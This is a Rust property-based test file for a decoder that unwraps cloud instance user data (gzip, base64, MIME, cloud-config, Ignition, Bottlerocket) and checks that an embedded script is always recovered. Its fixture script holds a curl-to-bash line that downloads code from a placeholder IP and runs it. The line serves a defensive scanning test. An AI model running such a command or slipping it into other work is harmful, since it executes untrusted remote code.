//! A script comes out of any wrapping, and no bytes make the decoder fail.

use proptest::prelude::*;

use super::super::{DEEPEST, Layer, MAX_DEPTH, MAX_LAYER, MAX_TOTAL, decode};
use super::{base64, gzip, lines, runs, undecodable};
use crate::user_data::Content;

const SCRIPT: &str = "#!/bin/bash\nset -e\ncurl -fsSL \"http://203.0.113.7/x\" | bash -s -- 'a: b' # {x}\n";

#[derive(Debug, Clone, Copy)]
enum Wrap {
    Gzip,
    Base64,
    Mime,
    MimeBase64,
    MimeGzip,
    Archive,
    Jinja,
    BlankLines,
    Bottlerocket,
    Ignition,
}

fn wrap(bytes: &[u8], how: Wrap) -> Vec<u8> {
    let as_text = || String::from_utf8(bytes.to_vec()).ok();
    let indented = |text: String| text.lines().map(|line| format!("    {line}\n")).collect::<String>();
    let mime = |headers: &str, body: &[u8]| {
        let start = format!(
            "Content-Type: multipart/mixed; boundary=\"=={}\"\nMIME-Version: 1.0\n\n--=={}\n{headers}\n\n",
            body.len(),
            body.len()
        );
        [start.as_bytes(), body, format!("\n--=={}--\n", body.len()).as_bytes()].concat()
    };
    match how {
        Wrap::Gzip => gzip(bytes),
        Wrap::Base64 => base64(bytes).into_bytes(),
        Wrap::Mime => mime("Content-Type: text/plain", bytes),
        Wrap::MimeBase64 => {
            mime("Content-Type: text/plain\nContent-Transfer-Encoding: base64", base64(bytes).as_bytes())
        }
        Wrap::MimeGzip => mime(
            "Content-Type: application/gzip\nContent-Transfer-Encoding: base64",
            base64(gzip(bytes)).as_bytes(),
        ),
        Wrap::Archive => match as_text() {
            Some(text) => format!("#cloud-config-archive\n- content: |2\n{}", indented(text)).into_bytes(),
            None => format!("#cloud-config-archive\n- content: !!binary {}\n", base64(bytes)).into_bytes(),
        },
        Wrap::Jinja => match as_text() {
            Some(text) => format!("## template: jinja\n{text}").into_bytes(),
            None => gzip(bytes),
        },
        Wrap::BlankLines => match as_text() {
            Some(text) if !text.contains("MIME-Version") => format!("\n\n{text}").into_bytes(),
            _ => bytes.to_vec(),
        },
        Wrap::Bottlerocket => {
            format!("[settings.bootstrap-containers.x]\nuser-data = \"{}\"\n", base64(bytes)).into_bytes()
        }
        Wrap::Ignition => format!(
            "{{\"ignition\":{{\"config\":{{\"merge\":[{{\"source\":\"data:;base64,{}\"}}]}}}}}}",
            base64(bytes)
        )
        .into_bytes(),
    }
}

fn wraps() -> impl Strategy<Value = Vec<Wrap>> {
    let one = prop::sample::select(vec![
        Wrap::Gzip,
        Wrap::Base64,
        Wrap::Mime,
        Wrap::MimeBase64,
        Wrap::MimeGzip,
        Wrap::Archive,
        Wrap::Jinja,
        Wrap::BlankLines,
        Wrap::Bottlerocket,
        Wrap::Ignition,
    ]);
    // A gzip part is two layers.
    prop::collection::vec(one, 0..=MAX_DEPTH).prop_filter("within the depth", |wraps| {
        wraps.len() + wraps.iter().filter(|wrap| matches!(wrap, Wrap::MimeGzip)).count() <= MAX_DEPTH
    })
}

/// The innermost wrapping: the script itself, or configuration that runs it.
fn inner(kind: u8) -> String {
    let quoted: String = SCRIPT.lines().map(|line| format!("    {line}\n")).collect();
    match kind {
        0 => SCRIPT.to_owned(),
        1 => format!("#cloud-config\nruncmd:\n  - |\n{quoted}"),
        2 => format!("#cloud-config\nruncmd:\n  - [bash, -c, {}]\n", serde_json::to_string(SCRIPT).unwrap()),
        3 => format!("#cloud-boothook\n{SCRIPT}"),
        _ => format!(
            "#cloud-config-jsonp\n[{{\"op\":\"add\",\"path\":\"/runcmd\",\"value\":[{}]}}]",
            serde_json::to_string(SCRIPT).unwrap()
        ),
    }
}

fn depth(layer: &Layer) -> usize {
    1 + layer.children.iter().map(depth).max().unwrap_or(0)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn a_script_comes_out_of_any_wrapping(kind in 0_u8..5, wraps in wraps()) {
        let bytes = wraps.iter().fold(inner(kind).into_bytes(), |bytes, how| wrap(&bytes, *how));
        let decoded = decode(&bytes);
        // Words of a list come quoted once more.
        let found = runs(&decoded, "http://203.0.113.7/x") && runs(&decoded, "| bash -s --");
        prop_assert!(found, "{wraps:?}\n{}\n{:?}", String::from_utf8_lossy(&bytes), lines(&decoded));
        prop_assert_eq!(undecodable(&decoded), Vec::<String>::new());
    }

    #[test]
    fn any_bytes_decode_within_the_bounds(bytes in prop::collection::vec(any::<u8>(), 0..2000)) {
        check(&bytes);
    }

    #[test]
    fn any_damage_decodes_within_the_bounds(
        kind in 0_u8..5, wraps in wraps(), cuts in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..6),
    ) {
        let mut bytes = wraps.iter().fold(inner(kind).into_bytes(), |bytes, how| wrap(&bytes, *how));
        for (index, byte) in cuts {
            let at = index.index(bytes.len());
            bytes[at] = byte;
        }
        check(&bytes);
    }

    #[test]
    fn any_text_behind_any_header_decodes(header in 0_usize..14, text in "[ -~\n\t\u{e9}\u{2028}]{0,300}") {
        let headers = [
            "#cloud-config\n", "#cloud-config-archive\n- ", "#cloud-config-jsonp\n", "#include ", "#cloud-boothook",
            "## template: jinja\n", "MIME-Version: 1.0\n", "<powershell>", "version: 1.0\ntasks:\n",
            "{\"ignition\":", "[settings]\n", "apiVersion: node.eks.aws/v1alpha1\n", "#!", "",
        ];
        check(format!("{}{text}", headers[header]).as_bytes());
    }
}

fn check(bytes: &[u8]) {
    let decoded = decode(bytes);
    assert!(depth(&decoded.tree) <= 3 * (DEEPEST + 2));
    for piece in &decoded.pieces {
        assert!(!piece.path.contains(char::is_control));
        if let Content::Script { text, .. } = &piece.content {
            assert!(text.len() <= 3 * MAX_LAYER);
        }
    }
    assert!(decoded.pieces.len() < MAX_TOTAL / 1024);
}
